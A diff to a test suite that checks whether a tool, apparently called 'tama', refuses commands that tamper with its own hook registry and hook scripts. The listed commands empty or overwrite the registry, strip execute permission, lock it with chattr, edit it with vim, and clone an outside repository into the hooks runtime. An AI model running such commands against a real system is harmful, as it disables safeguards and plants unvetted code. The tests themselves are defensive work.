@@ -121,6 +121,9 @@ describe("self-protection refuses", () => {
     `for f in ${registry} x; do cp /dev/null "$f"; done`,
     `cd "$(echo ~/.tama)" && echo '{}' > hooks/registry.json`,
     `chmod -x ${hookScript}`,
+    `chattr +i ${registry}`,
+    `vim -c 'normal dd' -c wq ${registry}`,
+    `git clone https://example.com/x ${tamaHome}/hooks-runtime/evil`,
   ];
   for (const command of commands) {
     it(command, () => {
